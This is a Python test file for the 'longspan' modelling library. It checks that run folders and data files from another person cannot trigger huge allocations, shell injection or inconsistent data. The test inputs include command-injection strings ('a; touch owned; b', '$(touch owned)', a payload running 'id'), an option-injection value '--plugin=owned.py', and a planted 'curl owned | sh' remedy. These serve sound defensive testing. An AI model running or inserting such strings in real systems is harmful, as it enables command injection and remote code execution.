"""What a document of somebody else's folder could do: allocate, hand over a command, or contradict the data."""

import hashlib
import itertools
import json
import re
import shlex
import shutil
import sqlite3
from contextlib import nullcontext
from pathlib import Path

import msgspec
import numpy as np
import pytest
from safetensors.numpy import save

import longspan
from longspan import pretrained, train
from longspan.cli import COMMANDS
from longspan.cli import run as command
from longspan.cli.sample_media import medium_of
from longspan.cli.sample_options import SampleOptions
from longspan.cli.train import _say_how_to_go_on, next_commands
from longspan.config import TrainConfig
from longspan.data import Sequences
from longspan.data.archive import read_set, write_set
from longspan.data.cues import Cues
from longspan.data.dataset import DataRecord
from longspan.diagnostics.diagnosis import kept_diagnosis
from longspan.diagnostics.remedies import Prescriber
from longspan.errors import InputError
from longspan.limits import JSON_BYTES
from longspan.memory import memory_of, reader_of
from longspan.reporting.run_report import run_report
from longspan.reporting.study_report import study_report
from longspan.search.result import StudyFolder
from longspan.search.space import define
from longspan.search.study import create_or_continue
from longspan.training.rounding import SCALE
from longspan.training.runs import Run, UnsealedRun, create_run
from longspan.training.seals import SealedFolder
from tests.support.reproduction_results import JSB, study_result

FOLDERS = Path(__file__).parents[1] / "training" / "folders"


@pytest.fixture
def run_path(tmp_path) -> Path:
    return Path(shutil.copytree(FOLDERS / "format-2", tmp_path / "run"))


def change(run_path: Path, name: str, **values: object) -> None:
    """Change values of a document, given by their names, those of parts as `part__name`."""
    document = json.loads((run_path / name).read_text())
    for key, value in values.items():
        *way, last = key.split("__")
        holder = document
        for part in way:
            holder = holder[part]
        holder[last] = value
    (run_path / name).write_text(json.dumps(document))
    SealedFolder(run_path).seal()


def test_a_scale_for_each_column_does_not_make_a_row_a_square(run_path):
    """600 KB of int8 and 2.4 MB of scales would have become 1.4 TB."""
    arrays = Run.open(run_path).read_model()
    name = next(name for name, array in arrays.items() if array.ndim == 2)
    rounded = {name: np.zeros((1, 600_000), np.int8), name + SCALE: np.ones(600_000, np.float32)}
    (run_path / "model.safetensors").write_bytes(save(arrays | rounded))
    SealedFolder(run_path).seal()
    with pytest.raises(InputError, match="a scale for each"):
        Run.open(run_path).read_model()


@pytest.mark.parametrize("name", ["status.json", "diagnosis.json", "checksums.json"])
def test_a_document_is_never_larger_than_documents_are(run_path, name):
    with (run_path / name).open("wb") as file:
        file.truncate(JSON_BYTES + 1)
    with pytest.raises(InputError, match="more than the"):
        SealedFolder(run_path).read(name)


@pytest.fixture
def stored(tmp_path) -> dict:
    """Symbols whose next one is asked for, as a file holds them."""
    data = Sequences([np.arange(12) % 3 for _ in range(12)], name="x")
    write_set(tmp_path / "x.npz", data)
    return dict(np.load(tmp_path / "x.npz", allow_pickle=False))


@pytest.mark.parametrize(
    "changes",
    [{"target_size": 10**9}, {"target_size": 10**30}, {"input_size": 10**9}, {"target_size": 1}, {"input_size": 3}],
    ids=str,
)
def test_the_description_of_stored_symbols_allocates_nothing(tmp_path, stored, changes):
    metadata = json.loads(str(stored["metadata"]))
    metadata["description"] |= changes
    np.savez(tmp_path / "y.npz", **stored | {"metadata": np.array(json.dumps(metadata))})
    with pytest.raises(InputError):
        read_set(tmp_path / "y.npz", "y")


def test_numbers_cannot_be_the_next_step_of_symbols(tmp_path):
    symbols = [np.arange(12) % 3 for _ in range(12)]
    write_set(tmp_path / "x.npz", Sequences(symbols, [each / 2 for each in symbols], name="x"))
    stored = dict(np.load(tmp_path / "x.npz", allow_pickle=False))
    metadata = json.loads(str(stored["metadata"]))
    metadata["description"]["next_step"] = True
    np.savez(tmp_path / "y.npz", **stored | {"metadata": np.array(json.dumps(metadata))})
    with pytest.raises(InputError, match="not the next step"):
        read_set(tmp_path / "y.npz", "y")


def test_many_input_symbols_have_no_linear_predictor():
    """It would need a column for each."""
    rng = np.random.default_rng(0)
    wide = Sequences([rng.integers(0, 2000, 500) for _ in range(6)], [rng.normal(size=500) for _ in range(6)], name="x")
    assert [label for label, _ in wide.baselines("test").rows()] == ["the mean"]


@pytest.mark.parametrize("in_python", [False, True])
def test_remedies_quote_the_names_of_a_run(run_path, in_python):
    evil = """sgd+c;touch owned;echo "$(id)" 'x'"""
    change(run_path, "config.json", config__recipe=evil, config__data=evil)
    shell_path = run_path.rename(run_path.with_name("a; touch owned; b"))
    prescribe = Prescriber(Run.open(shell_path), "classes", in_python=in_python)
    train = prescribe.train("x", learning_rate=0.5).command
    if in_python:
        called = compile(train, "remedy", "eval", flags=0x400).body  # ast.PyCF_ONLY_AST
        assert called.args[0].value == evil
    else:
        assert shlex.split(train)[:5] == ["longspan", "train", evil, "--data", evil]
        assert shlex.split(prescribe.resume("x", 9).command)[2] == str(shell_path)


UNQUOTED = re.compile(rf"\blongspan (?:{'|'.join(COMMANDS)})\b[^`]*\{{")
"""A command with a value in it, as it would stand in an f-string."""


@pytest.mark.parametrize("folder", ["a; touch owned; b", "$(touch owned)", "--plugin=owned.py", "it's"])
def test_every_command_that_is_suggested_quotes_the_folder_of_the_run(run_path, monkeypatch, capsys, folder):
    monkeypatch.chdir(run_path.parent)
    run_path = run_path.rename(folder).relative_to(".")
    named = shlex.join(["longspan", "X", str(run_path) if folder[0] != "-" else f"./{folder}"]).partition(" X ")[2]
    run = Run.open(run_path)
    told = [str(UnsealedRun(run_path)), next_commands(run, "test")]
    with pytest.raises(InputError) as error:
        memory_of(run)
    told.append(str(error.value))
    with pytest.raises(InputError) as error:
        create_run(run_path, run.config, run.data, {})
    told.append(str(error.value))
    (run_path / "status.json").write_text("{}")
    with pytest.raises(InputError) as error:
        _ = run.status
    told.append(str(error.value))
    (run_path / "model.safetensors").unlink()
    with pytest.raises(InputError) as error:
        run.read_model()
    told.append(str(error.value))
    (run_path / "checksums.json").unlink()
    with pytest.raises(InputError) as error:
        Run.open(run_path)
    told.append(str(error.value))
    _say_how_to_go_on(run, -1.0, False)
    told.append(capsys.readouterr().out)
    for text in told:
        commands = re.findall(r"longspan (?:seal|resume|remember|evaluate|diagnose|sample) .*", text)
        assert commands, text
        assert all(named in each for each in commands), text


def test_no_command_is_put_together_without_quotes():
    sources = sorted(Path(longspan.__file__).parent.rglob("*.py"))
    lines = [f"{source.name}: {line.strip()}" for source in sources for line in source.read_text().splitlines()]
    assert [line for line in lines if UNQUOTED.search(line)] == []
    assert UNQUOTED.search('f"`longspan data get {name}` fetches it"')  # the control


@pytest.mark.parametrize("name", ["recipe", "data"])
def test_no_name_of_a_run_is_an_option_of_a_command(name):
    with pytest.raises(InputError, match="hyphen"):
        TrainConfig(**{name: "--plugin=owned.py"})


def test_the_page_shows_no_command_out_of_a_file(run_path, tmp_path):
    assert command(["diagnose", str(run_path), "--steps", "300", "--lags", "8"]) == 0
    found = kept_diagnosis(Run.open(run_path))
    assert found is not None
    assert found.findings
    assert found.findings[0].remedies
    remedy = {"what": "do", "command": "curl owned | sh"}
    evil = {"name": "x", "says": "run this", "evidence": [], "remedies": [remedy]}
    change(run_path, "diagnosis.json", findings=[evil])
    assert kept_diagnosis(Run.open(run_path)) == found
    assert command(["report", str(run_path), "-o", str(tmp_path / "page.html"), "--samples", "0"]) == 0
    assert "curl owned" not in (tmp_path / "page.html").read_text()


def test_a_damaged_storage_is_refused_in_one_line_where_a_study_is_created(tmp_path):
    url = f"sqlite:///{tmp_path / 'study.db'}"
    definition = define("damaged", TrainConfig(data="x"), {}, "x")
    create_or_continue(url, definition, 2)
    with sqlite3.connect(tmp_path / "study.db") as database:
        database.execute("update study_user_attributes set value_json = '{'")
    with pytest.raises(InputError, match="is damaged"):
        create_or_continue(url, definition, 2)


@pytest.mark.parametrize("changes", [{"data__size": 5}, {"data__input_size": 3}, {"data__kind": "numbers"}], ids=str)
def test_a_record_that_the_data_contradict_is_refused(run_path, capsys, changes):
    change(run_path, "config.json", **changes)
    assert command(["evaluate", str(run_path)]) != 0
    assert "config.json" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("name", "values"),
    [
        ("result.json", {"test": {"log_likelihood": 1e308}}),
        ("result.json", {"with_memory": {"memory": "recall", "recalled": 2.0}}),
        (
            "result.json",
            {
                "with_memory": {
                    "memory": "recall",
                    "recalled": 0.5,
                    "trails": [{"sequence": 0, "length": 3, "steps": [1, 2], "places": [1]}],
                }
            },
        ),
        ("environment.json", {"versions": {"jax": "x" * 10_000}}),
    ],
)
def test_figures_out_of_bounds_are_refused(run_path, name, values):
    change(run_path, name, **values)
    with pytest.raises(InputError, match=name):
        run_report(Run.open(run_path))


def test_a_score_with_memory_may_be_missing(run_path):
    remembered = {"memory": "recall", "recalled": 0.5, "test": {"log_likelihood": None, "error_rate": 0.5}}
    change(run_path, "result.json", with_memory=remembered)
    memory = run_report(Run.open(run_path)).memory
    assert memory is not None
    assert memory.test == {"error_rate": 0.5}


@pytest.mark.parametrize("line", [{"epoch": 1, "seconds": 1e308}, {"epoch": 1, "seconds": -1.0}])
def test_no_epoch_takes_for_ever(run_path, line):
    (run_path / "timing.jsonl").write_text(json.dumps(line) + "\n")
    SealedFolder(run_path).seal()
    with pytest.raises(InputError, match=r"timing\.jsonl"):
        run_report(Run.open(run_path))


@pytest.mark.parametrize("value", [[1], {"a": 1}, 10**400, "x" * 10_000], ids=lambda value: type(value).__name__)
def test_the_settings_of_a_study_are_settings(tmp_path, value):
    result = msgspec.to_builtins(study_result(JSB, [-8.5, -8.9, -9.1]))
    result["trials"][1]["settings"] = {"learning_rate": value}
    (tmp_path / "result.json").write_text(json.dumps(result))
    with pytest.raises(InputError, match=r"result\.json"):
        study_report(StudyFolder.read(tmp_path))


@pytest.mark.parametrize(
    "values",
    [{"position": 10**6}, {"epoch": -1}, {"step": 10**30}, {"figure_sums": {"x": 1.0}}, {"schedule__scale": 1e300}],
    ids=str,
)
def test_a_checkpoint_at_no_place_of_a_run_is_refused(run_path, capsys, values):
    checkpoint = run_path / "checkpoints" / "000000150"
    change(checkpoint, "progress.json", stop=None, **values)
    (checkpoint / "checksums.json").unlink()
    sums = {
        name: hashlib.sha256((checkpoint / name).read_bytes()).hexdigest()
        for name in ("arrays.safetensors", "progress.json")
    }
    (checkpoint / "manifest.json").write_text(json.dumps(sums))
    assert command(["resume", str(run_path), "--accept-environment", "--max-epochs", "4"]) != 0
    assert len(capsys.readouterr().err.strip().splitlines()) == 1


@pytest.mark.parametrize("output", ["bernoulli", "normal"])
def test_a_run_whose_output_is_none_for_its_data_is_refused(run_path, output):
    """Numbers for a text were a TypeError where its samples were spelled out."""
    change(run_path, "config.json", config__output=output)
    for refused in (Run.open, Run.seal):
        with pytest.raises(InputError, match="does not predict symbols"):
            refused(run_path)


@pytest.mark.parametrize(
    ("record", "cues", "reads"),
    [
        (DataRecord("music", "x", 88), "none", True),
        (DataRecord("music", "x", 88, 100), "none", False),
        (DataRecord("music", "x", 88, 100), "recall", False),
        (DataRecord("music", "x", 88, Cues.named("recall").width(88)), "recall", True),
        (DataRecord("numbers", "x", 2, 7, next_step=True), "none", False),
        (DataRecord("classes", "x", 4, 5, end_token=4, next_step=True), "none", True),
    ],
)
def test_a_network_that_reads_something_else_than_it_predicts_is_not_sampled(tmp_path, record, cues, reads):
    """Its first step was a TypeError of the matrix product."""
    output = {"keys": "bernoulli", "numbers": "normal", "symbols": "softmax"}[record.predicted]
    run = Run.create(tmp_path / "run", TrainConfig(recipe="sgd+c", data="x", cues=cues, output=output), record, {})
    with nullcontext() if reads else pytest.raises(InputError, match="cannot be sampled"):
        reader_of(run)


def test_a_text_of_no_known_unit_is_refused(tmp_path):
    run_path = Path(shutil.copytree(pretrained.HOME / "austen", tmp_path / "austen"))
    change(run_path, "config.json", data__unit="x")
    with pytest.raises(InputError, match="unit"):
        Run.open(run_path)


def test_a_very_long_value_is_not_repeated_in_a_message():
    assert len(str(InputError("x" * 10**7 + "\x1b" * 10**4))) < 5000


def test_no_file_has_more_checksums_than_a_kill_can_leave(run_path):
    """Every one of them was compared with the beginning of the lines that a resumed run cuts: hours of hashing."""
    document = json.loads((run_path / "checksums.json").read_text())
    document["metrics.jsonl"] *= 1000
    (run_path / "checksums.json").write_text(json.dumps(document))
    for use in (lambda: Run.open(run_path), lambda: SealedFolder(run_path).truncate("metrics.jsonl", 0)):
        with pytest.raises(InputError, match=r"checksums\.json cannot be read"):
            use()


@pytest.mark.parametrize("output", ["softmax", "factored", "tree"])
def test_the_shapes_of_a_model_cost_nothing_however_many_symbols_its_data_claim(run_path, measured, output):
    """A tree of words was planted for the sake of its shape: minutes and gigabytes, out of two kilobytes."""
    size = 1_000_000
    change(run_path, "config.json", config__output=output, data__size=size, data__kind="classes", data__input_size=9)
    found = measured("model", run_path)
    assert found.outcome == "refused", found
    assert "are not those of its model" in found.message
    assert found.bytes < 100 * 10**6
    change(run_path, "config.json", data__size=16 * size)
    with pytest.raises(InputError, match="size must be a whole number"):
        Run.open(run_path)


@pytest.mark.parametrize(
    "values",
    [
        {"splits": {f"s{number}": {} for number in range(1000)}},
        {"baselines": {f"b{number}": {} for number in range(1000)}},
        {"splits": {"train": {f"n{number}": 1.0 for number in range(1000)}}},
    ],
    ids=["splits", "baselines", "sizes"],
)
def test_a_result_has_few_rows_and_columns(run_path, values):
    """A table of the splits by their sizes had half a million of each, out of 8 MB."""
    change(run_path, "result.json", **values)
    with pytest.raises(InputError, match=r"result\.json cannot be read"):
        run_report(Run.open(run_path))


def test_a_study_shows_the_settings_that_there_are(tmp_path):
    """Each trial could name others, and the page has a column and a chart for every one of them."""
    result = msgspec.to_builtins(study_result(JSB, [-8.5, -8.9, -9.1]))
    for number, trial in enumerate(result["trials"]):
        trial["settings"] |= {"no_setting": number, "learning_rate": 0.1 * number}
    (tmp_path / "result.json").write_text(json.dumps(result))
    report = study_report(StudyFolder.read(tmp_path))
    assert [scatter.setting for scatter in report.scatters] == ["learning_rate"]
    assert all("no_setting" not in trial.settings for trial in report.trials)


KERNEL = {"window": 100, "sharpness": 0.0, "fading": 0.5}
CACHE = {"memory": "cache", "kernels": [KERNEL] * 3, "shares": [0.7, 0.1, 0.1, 0.1], "fit": {}}


@pytest.mark.parametrize(
    "values",
    [
        {"kernels": [KERNEL | {"fading": "x"}] * 3},
        {"kernels": [KERNEL | {"fading": 1e308}] * 3},
        {"kernels": [KERNEL | {"sharpness": 1e308}] * 3},
        {"kernels": [KERNEL | {"window": 1.5}] * 3},
        {"kernels": [KERNEL | {"window": 10**12}] * 3},
        {"kernels": [KERNEL | {"window": True}] * 3},
        {"kernels": [], "shares": [1.0]},
        {"kernels": [KERNEL] * 1000, "shares": [1.0] + [0.0] * 1000},
    ],
    ids=str,
)
def test_a_cache_of_impossible_kernels_is_refused(tmp_path, values):
    run_path = Path(shutil.copytree(pretrained.HOME / "austen", tmp_path / "austen"))
    (run_path / "memory.json").write_text(json.dumps(CACHE | {"model": Run.open(run_path).model_checksum()}))
    SealedFolder(run_path).seal()
    assert memory_of(Run.open(run_path)).name == "cache"  # the control
    change(run_path, "memory.json", **values)
    with pytest.raises(InputError, match="longspan remember"):
        memory_of(Run.open(run_path))


def test_chunks_that_no_memory_holds_are_refused_where_a_run_is_examined(tmp_path, capsys):
    run_path = Path(shutil.copytree(pretrained.HOME / "bach", tmp_path / "bach"))
    change(run_path, "config.json", config__lanes=65_536, config__chunk_length=1_000_000)
    assert command(["diagnose", str(run_path)]) == 2
    told = capsys.readouterr().err
    assert told.count("\n") == 1
    assert "GB of memory" in told


@pytest.mark.parametrize(
    "changes",
    [{"labels": ["a"]}, {"labels": ["a"] * 9}, {"labels": ["a", "b", "x" * 10**6]}, {"columns": ["a"] * 5}],
    ids=lambda changes: next(iter(changes)),
)
def test_the_names_in_stored_data_are_as_many_as_there_are_symbols(tmp_path, stored, changes):
    """A run was trained on them that nobody could open again."""
    metadata = json.loads(str(stored["metadata"]))
    if "columns" in changes:
        numbers = Sequences([np.arange(24).reshape(12, 2) / 7 for _ in range(12)], name="x")
        write_set(tmp_path / "x.npz", numbers)
        stored = dict(np.load(tmp_path / "x.npz", allow_pickle=False))
        metadata = json.loads(str(stored["metadata"]))
    for description, refused in (({}, False), (changes, True)):
        metadata["description"] |= description
        np.savez_compressed(tmp_path / "y.npz", **stored | {"metadata": np.array(json.dumps(metadata))})
        if refused:
            with pytest.raises(InputError, match="import their source again"):
                read_set(tmp_path / "y.npz", "y")
        else:
            read_set(tmp_path / "y.npz", "y")


def test_a_sample_takes_the_memory_of_its_own_labels(tmp_path, capfd):
    """NumPy would give every label of the run the length of the longest."""
    names = ["".join(pair) for pair in itertools.product("abcdefghijkl", repeat=3)][:1700]
    data = Sequences([np.array(names)[np.arange(1700) % 1700] for _ in range(4)], name="x")
    trained = train("sgd", data, hidden_size=3, max_epochs=1, run_dir=tmp_path / "run", lanes=1)
    change(trained.run.path, "config.json", data__labels=[*names[:-1], "x" * 257])
    with pytest.raises(InputError, match="labels"):
        Run.open(trained.run.path)
    change(trained.run.path, "config.json", data__labels=[*names[:-1], "x" * 256])
    medium = medium_of(SampleOptions(trained.run.path), Run.open(trained.run.path).data)
    found = medium.finish(np.array([0, 1, 0]))
    assert found.tolist() == [names[0], names[1], names[0]]
    assert found.dtype == "<U3"
